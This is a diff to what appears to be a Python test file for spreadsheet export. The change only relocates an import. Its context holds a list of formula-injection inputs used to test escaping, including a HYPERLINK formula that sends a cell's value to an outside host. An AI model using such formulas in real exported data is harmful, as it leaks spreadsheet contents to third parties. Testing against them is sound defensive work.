@@ -15,8 +15,8 @@ from hypothesis import example, given
 from hypothesis import strategies as st
 
 from collection import Campaign, Judgement, formats
+from collection.core.records import Preference
 from collection.formats import spreadsheet
-from collection.records import Preference
 from tests.helpers import ok
 
 FORMULAS = ('=HYPERLINK("http://x.org?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", "'@x")
